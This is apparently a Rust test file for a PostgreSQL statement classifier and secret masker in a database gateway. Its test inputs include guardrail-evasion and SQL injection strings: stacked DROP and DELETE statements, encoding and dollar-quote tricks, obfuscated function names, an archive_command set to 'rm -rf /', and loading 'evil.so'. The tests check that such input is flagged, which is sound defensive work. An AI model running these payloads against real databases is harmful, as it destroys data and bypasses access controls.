        "SELECT 1; SELECT $x$ unterminated",
        // With standard_conforming_strings off, the DROP is a statement.
        "SELECT '\\', ' ; DROP TABLE t; --'",
        // A dollar tag sqlparser ends early: it would see `SELECT $ €$` and
        // a comment, PostgreSQL a string and then the DELETE.
        "WITH a AS (SELECT $€$ -- $€$ ), d AS (DELETE FROM t RETURNING 1\n) SELECT 1",
        "SELECT $é$ x $é$",
        // A string to sqlparser, `$1` and a name to PostgreSQL 14.
        "WITH a AS (SELECT $1abc$ ), d AS (DELETE FROM t RETURNING 1) SELECT 1 -- $1abc$",
        "SELECT $1€",
        // In SJIS, 0x95 0x5C is one character (what the gateway decodes as
        // U+FFFD, or a UTF-8 character's last byte before a backslash): the
        // quote after it ends the string, and the DELETE is a statement.
        "SELECT E'\u{FFFD}\\'; DELETE FROM t; --'",
        "SELECT E'表\\\\'; DELETE FROM t; --'",
        "SELECT '\u{FFFD}\\'; DELETE FROM t; --'",
    ] {
        let ops = all(sql);
        assert_eq!(ops.len(), 1, "{sql}");
        assert_eq!(ops[0].operation.kind, SqlKind::Opaque, "{sql}");
        assert_eq!(ops[0].operation.text, sql);
    }
    // Without the ambiguity, the same shapes split and classify normally.
    assert_eq!(
        kinds("SELECT 1; SELECT 'terminated'"),
        [SqlKind::Select, SqlKind::Select]
    );
    assert_eq!(kinds("SELECT '\\d', ' ; x'"), [SqlKind::Select]);
    assert_eq!(
        kinds("SELECT $x_1$ € $x_1$, $1, $2::int"),
        [SqlKind::Select]
    );
    assert_eq!(
        kinds("SELECT $$€$$; SELECT 1"),
        [SqlKind::Select, SqlKind::Select]
    );
    assert_eq!(
        kinds("SELECT E'表\\n', E'a\\'', '表\\d'; SELECT 1"),
        [SqlKind::Select, SqlKind::Select]
    );
}

#[test]
fn empty_strings_have_no_statements() {
    for sql in ["", "   ", ";", " ; ;", "-- just a comment", "/* c */ ;"] {
        assert!(all(sql).is_empty(), "{sql:?}");
    }
}

// ---- guardrail evasion ----

#[test]
fn comments_around_keywords_do_not_hide_a_drop() {
    for sql in [
        "DROP/**/TABLE t",
        "/* x */ DROP TABLE t",
        "-- c\nDROP TABLE t",
        "DROP /* a /* nested */ comment */ TABLE t",
    ] {
        let op = op(sql);
        assert_eq!(
            (op.kind, tables_of(&op)),
            (SqlKind::Drop, vec!["w:t".to_owned()]),
            "{sql}"
        );
    }
    // A comment inside a keyword is not valid SQL: opaque, never a read.
    assert_eq!(kind("DR/**/OP TABLE t"), SqlKind::Opaque);
    // The benign neighbour with the same comment tricks stays a read.
    assert_eq!(kind("/* x */ SELECT/**/* FROM t"), SqlKind::Select);
    assert_eq!(kind("-- c\nSELECT 1"), SqlKind::Select);
}

#[test]
fn mixed_case_is_the_same_statement() {
    let op = op("dRoP tAbLe Public.Users");
    assert_eq!(op.kind, SqlKind::Drop);
    assert_eq!(tables_of(&op), ["w:public.users"]);
    assert_eq!(kind("sElEcT * FrOm Users"), SqlKind::Select);
    assert_eq!(tables("sElEcT * FrOm \"Users\""), ["r:users"]);
}

#[test]
fn a_write_appended_to_a_read_is_seen() {
    assert_eq!(
        kinds("SELECT 1; DROP TABLE t"),
        [SqlKind::Select, SqlKind::Drop]
    );
    assert_eq!(
        kinds("SELECT 1;DROP TABLE t--"),
        [SqlKind::Select, SqlKind::Drop]
    );
    assert_eq!(
        kinds("SELECT 1; SELECT 2"),
        [SqlKind::Select, SqlKind::Select]
    );
}

#[test]
fn a_cte_wrapped_write_is_seen() {
    assert_eq!(
        kind("WITH d AS (DELETE FROM users RETURNING id) SELECT count(*) FROM d"),
        SqlKind::Delete
    );
    assert_eq!(
        kind("WITH d AS (SELECT id FROM users) SELECT count(*) FROM d"),
        SqlKind::Select
    );
}

#[test]
fn a_prepared_write_is_seen_through_prepare_and_execute() {
    let ops = all("PREPARE p AS DELETE FROM t; EXECUTE p");
    assert_eq!(ops.len(), 2);
    assert_eq!(
        ops[0].prepare.as_ref().map(|(n, o)| (n.as_str(), o.kind)),
        Some(("p", SqlKind::Delete))
    );
    assert_eq!(ops[0].operation.has_where, Some(false));
    assert_eq!(ops[1].execute.as_deref(), Some("p"));
    let ops = all("PREPARE p AS SELECT 1; EXECUTE p");
    assert_eq!(
        ops[0].prepare.as_ref().map(|(_, o)| o.kind),
        Some(SqlKind::Select)
    );
}

#[test]
fn do_blocks_and_garbage_are_opaque() {
    for sql in [
        "DO $$ BEGIN DELETE FROM t; END $$",
        "do language plpgsql $x$ begin perform 1; end $x$",
        "ALTER SYSTEM SET archive_command = 'rm -rf /'",
        "LOAD 'evil.so'",
        "hello world",
        "SELECT FROM WHERE (",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1",
    ] {
        let ops = all(sql);
        assert_eq!(ops[0].operation.kind, SqlKind::Opaque, "{sql}");
        assert!(
            ops[0].operation.kind.is_write(),
            "opaque must never be a read"
        );
    }
}

#[test]
fn a_rule_action_list_cut_at_its_semicolon_is_opaque() {
    // The server reads one CREATE RULE; the splitter cuts it inside the parentheses,
    // so the pieces must not pass as a harmless rule plus a harmless statement.
    let ops = all("CREATE RULE r AS ON INSERT TO t DO INSTEAD (SELECT 1; SELECT 2)");
    assert!(
        ops.iter().all(|c| c.operation.kind == SqlKind::Opaque),
        "{ops:#?}"
    );
}

// ---- cache ----

#[test]
fn the_cache_returns_the_same_arc_for_repeated_text() {
    let classifier = Classifier::new(2);
    let a = classifier.classify("SELECT * FROM t");
    let b = classifier.classify("SELECT * FROM t");
    assert!(Arc::ptr_eq(&a, &b));
    // A different string is classified on its own.
    let c = classifier.classify("select * from t");
    assert!(!Arc::ptr_eq(&a, &c));
    assert_eq!(a[0].operation.tables, c[0].operation.tables);
}

#[test]
fn the_cache_is_bounded_and_evicts_the_least_recently_used() {
    let classifier = Classifier::new(2);
    let a = classifier.classify("SELECT * FROM a");
    let _b = classifier.classify("SELECT * FROM b");
    assert!(Arc::ptr_eq(&a, &classifier.classify("SELECT * FROM a")));
    let _c = classifier.classify("SELECT * FROM c"); // evicts b
    assert!(Arc::ptr_eq(&a, &classifier.classify("SELECT * FROM a")));
    assert!(format!("{classifier:?}").contains("cached: 2"));
}

/// The shape cache must never change a result: every statement classified
/// through a warm cache equals its classification with no cache at all.
#[test]
fn statements_differing_only_in_literals_share_a_shape_and_keep_their_own_text() {
    let cached = Classifier::new(64);
    let fresh = || Classifier::new(0);
    let families: &[&[&str]] = &[
        &[
            "SELECT abalance FROM pgbench_accounts WHERE aid = 1",
            "SELECT abalance FROM pgbench_accounts WHERE aid = 4711",
            "SELECT abalance FROM pgbench_accounts WHERE aid = 2.5e3",
        ],
        &[
            "UPDATE t SET note = 'a' WHERE id = 1; DELETE FROM u WHERE id = 2",
            "UPDATE t SET note = 'it''s; DROP TABLE x' WHERE id = 9; DELETE FROM u WHERE id = 3",
        ],
        &[
            "INSERT INTO t VALUES (1, E'\\n', $$x$$)",
            "INSERT INTO t VALUES (2, E'y', $$;DELETE FROM t$$)",
        ],
        // EXPLAIN options are literals that change what runs: never shared.
        &[
            "EXPLAIN (ANALYZE 0) DELETE FROM t WHERE id = 1",
            "EXPLAIN (ANALYZE 1) DELETE FROM t WHERE id = 1",
        ],
        // COPY's ENCODING is a literal that decides whether the data can be
        // masked: never shared.
        &[
            "COPY t TO STDOUT (ENCODING 'UTF8')",
            "COPY t TO STDOUT (ENCODING 'LATIN1')",
        ],
        // A vertical tab is white space to PostgreSQL 17: it does not hide
        // the EXPLAIN or COPY behind it.
        &[
            "\x0bEXPLAIN (ANALYZE 0) DELETE FROM t",
            "\x0bEXPLAIN (ANALYZE 1) DELETE FROM t",
        ],
        &[
            "\x0b\x0cCOPY t TO STDOUT (ENCODING 'UTF8')",
            "\x0b\x0cCOPY t TO STDOUT (ENCODING 'LATIN1')",
        ],
        // Non-breaking spaces are not white space to PostgreSQL (they start
        // a name): they neither hide nor shift anything.
        &[
            "\u{a0}SELECT 1 FROM t WHERE id = 1",
            "\u{a0}SELECT 1 FROM t WHERE id = 2",
            "\u{a0} DELETE FROM t\u{2003}",
        ],
        // `1from` is not a number: `SELECT 1from secret` must not borrow the
        // result of `SELECT 5 t`.
        &["SELECT 5 t", "SELECT 1from secret", "SELECT 1 from secret"],
        &[
            "PREPARE p AS SELECT * FROM t WHERE id = 1",
            "PREPARE p AS SELECT * FROM t WHERE id = 2",
        ],
    ];
    for family in families {
        for sql in *family {
            let got = cached.classify(sql);
            let want = fresh().classify(sql);
            assert_eq!(*got, *want, "{sql}");
        }
    }
    assert_ne!(
        kind("EXPLAIN (ANALYZE 0) DELETE FROM t WHERE id = 1"),
        kind("EXPLAIN (ANALYZE 1) DELETE FROM t WHERE id = 1")
    );
    assert_ne!(
        kind("COPY t TO STDOUT (ENCODING 'UTF8')"),
        kind("COPY t TO STDOUT (ENCODING 'LATIN1')")
    );
    assert_eq!(
        kind("\x0bEXPLAIN (ANALYZE 1) DELETE FROM t"),
        kind("EXPLAIN (ANALYZE 1) DELETE FROM t")
    );
    // A shape hit does not fill the exact-text cache with one-off strings.
    let fill = Classifier::new(4);
    for i in 0..100 {
        fill.classify(&format!("SELECT * FROM t WHERE id = {i}"));
    }
    assert!(format!("{fill:?}").contains("cached: 0"), "{fill:?}");
}

#[test]
fn long_strings_and_a_zero_capacity_are_not_cached_but_still_classified() {
    let classifier = Classifier::new(4);
    let long = format!("SELECT '{}'", "x".repeat(MAX_CACHED_LEN));
    let a = classifier.classify(&long);
    let b = classifier.classify(&long);
    assert!(!Arc::ptr_eq(&a, &b));
    assert_eq!(a, b);
    let none = Classifier::new(0);
    let a = none.classify("DELETE FROM t");
    assert_eq!(a[0].operation.kind, SqlKind::Delete);
    assert!(!Arc::ptr_eq(&a, &none.classify("DELETE FROM t")));
}

#[test]
fn the_classifier_is_shared_across_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Classifier>();
    let classifier = Arc::new(Classifier::new(64));
    let handles: Vec<_> = (0..4)
        .map(|i| {
            let classifier = Arc::clone(&classifier);
            std::thread::spawn(move || {
                for j in 0..50 {
                    let ops =
                        classifier.classify(&format!("DELETE FROM t{} WHERE id = {j}", i % 2));
                    assert_eq!(ops[0].operation.kind, SqlKind::Delete);
                }
            })
        })
        .collect();
    for h in handles {
        h.join().unwrap();
    }
}

#[test]
fn deeply_nested_input_is_opaque_not_a_crash() {
    let depth = 5_000;
    let nested = format!("SELECT {}1{}", "(".repeat(depth), ")".repeat(depth));
    assert_eq!(kinds(&nested), [SqlKind::Opaque]);
    let subqueries = format!(
        "SELECT * FROM {}t{}",
        "(SELECT * FROM ".repeat(depth),
        ") x".repeat(depth)
    );
    assert_eq!(kinds(&subqueries), [SqlKind::Opaque]);
    let comments = format!("{}{} SELECT 1", "/*".repeat(depth), "*/".repeat(depth));
    assert_eq!(kinds(&comments), [SqlKind::Select]);
    // Moderate nesting is still understood.
    let shallow = format!(
        "SELECT * FROM {}t{}",
        "(SELECT * FROM ".repeat(10),
        ") x".repeat(10)
    );
    assert_eq!(tables(&shallow), ["r:t"]);
}

/// `U&"..."` names decode escapes the parser here keeps: whatever they
/// spell is opaque, not a plain read. Without them the same statements are
/// what they look like.
#[test]
fn unicode_escape_names_are_opaque() {
    for sql in [
        r#"SELECT U&"pg_terminate\005fbackend"(pid) FROM pg_stat_activity"#,
        r#"select u&"query\005fto\005fxml"('select * from payroll', true, false, '')"#,
        r#"SELECT * FROM U&"p\0061yroll""#,
        r#"SELECT U&"d\0061ta" FROM t"#,
        r#"SELECT U&'\0041' AS a"#,
    ] {
        assert_eq!(kind(sql), SqlKind::Opaque, "{sql}");
    }
    assert_eq!(kind(r#"SELECT "data" FROM t"#), SqlKind::Select);
    // `u & "x"` with spaces is an operator between two names.
    assert_eq!(kind(r#"SELECT u & "x" FROM t"#), SqlKind::Select);
}

/// Prepared-statement names are the server's: ASCII letters of unquoted
/// names fold to lower case, and every name is cut to 63 bytes, so names
/// that differ only after that are one statement.
#[test]
fn prepared_names_fold_and_truncate_as_postgresql_does() {
    let long = "a".repeat(63);
    let prepared = |sql: &str| one(sql).prepare.map(|(name, _)| name);
    assert_eq!(
        prepared(&format!("PREPARE {long}x AS SELECT 1")),
        Some(long.clone())
    );
    assert_eq!(one(&format!("EXECUTE {long}y")).execute, Some(long.clone()));
    assert_eq!(
        one(&format!("DEALLOCATE {long}z")).deallocate,
        Some(Some(long.clone()))
    );
    // A non-ASCII name may be another name in the server's encoding.
    for sql in [
        "PREPARE Ünïcode AS SELECT 1",
        "EXECUTE Ünïcode",
        "DEALLOCATE \"Ünïcode\"",
    ] {
        assert_eq!(kind(sql), SqlKind::Opaque, "{sql}");
    }
    assert_eq!(prepared("PREPARE MiXed AS SELECT 1"), Some("mixed".into()));
    assert_eq!(
        prepared("PREPARE \"MiXed\" AS SELECT 1"),
        Some("MiXed".into())
    );
    // Table names are cut the same way, at a character boundary.
    assert_eq!(
        tables(&format!("SELECT * FROM {long}_and_more")),
        vec![format!("r:{long}")]
    );
    let wide = format!("{}é", "b".repeat(62));
    assert_eq!(
        tables(&format!("SELECT * FROM \"{wide}\"")),
        vec![format!("r:{}", "b".repeat(62))]
    );
}

#[test]
fn fetch_names_the_portal_it_reads_as_the_server_does() {
    for (sql, portal) in [
        ("FETCH ALL FROM p", "p"),
        ("fetch next in P", "p"),
        ("FETCH FORWARD 5 FROM \"Mixed\"", "Mixed"),
        ("FETCH ALL IN p /* c */", "p"),
    ] {
        let c = one(sql);
        assert_eq!(c.fetch.as_deref(), Some(portal), "{sql}");
        assert_eq!(c.operation.kind, SqlKind::Select, "{sql}");
    }
    // Forms the parser does not take are opaque, never a plain read.
    for sql in ["MOVE ALL IN p", "FETCH p"] {
        let c = one(sql);
        assert!(
            c.fetch.is_some() || c.operation.kind == SqlKind::Opaque,
            "{sql}: {c:?}"
        );
    }
    assert_eq!(one("SELECT 1").fetch, None);
}

fn plain_masker() -> airlock_core::mask::Masker {
    let config: airlock_core::mask::MaskConfig = toml::from_str("").unwrap();
    let engine =
        airlock_core::mask::MaskEngine::new(&config, vec!["hunter2-held".into()], [7; 32]).unwrap();
    engine.masker(
        "app",
        &airlock_core::Identity {
            subject: "t".into(),
            groups: vec![],
            issuer: "test".into(),
        },
    )
}

/// Masking a statement for the record and approvers never takes code out
/// of it: a detector span that would run from one comment across code into
/// another is cut to the comments, while values in their context are
/// still found as one string.
#[test]
fn masking_a_statement_leaves_its_code_in_sight() {
    let m = plain_masker();
    let mask = |sql: &str| super::mask_text(&m, sql, &mut Default::default());
    for sql in [
        "DELETE FROM orders WHERE id = 42 /* -----BEGIN PRIVATE KEY----- */ OR id > 0 /* -----END PRIVATE KEY----- */",
        "DELETE FROM orders WHERE id = 42 /* password: \"*/ OR id > 0 /*\" */",
        "DELETE FROM orders WHERE id = 42 -- -----BEGIN PRIVATE KEY-----\nOR id > 0 -- -----END PRIVATE KEY-----",
    ] {
        let masked = mask(sql).unwrap_or_else(|| sql.to_owned());
        assert!(masked.contains("OR id > 0"), "{sql:?} became {masked:?}");
        assert_eq!(
            super::lex::code(&masked),
            super::lex::code(sql),
            "{masked:?}"
        );
    }
    // Values are still masked, also where the context decides.
    let masked = mask(
        "UPDATE users SET password = 'Zq9-secret-Value' WHERE id = 1 /* 4111 1111 1111 1111 */",
    )
    .unwrap();
    assert_eq!(
        masked,
        "UPDATE users SET password = '<SECRET>' WHERE id = 1 /* <CARD> */"
    );
    // Masked value by value, a value cannot end early either: the closing
    // quote and comment ends stay.
    let masked = mask("SELECT 'a' /* password: \"*/ , id /*\" */ FROM t").unwrap();
    assert_eq!(
        super::lex::code(&masked),
        super::lex::code("SELECT 'a', id FROM t"),
        "{masked}"
    );
    let masked = mask("SELECT 'hunter2-held', 4111111111111111").unwrap();
    assert!(
        !masked.contains("hunter2-held") && !masked.contains("4111111111111111"),
        "{masked}"
    );
    assert_eq!(mask("SELECT 1"), None);
}
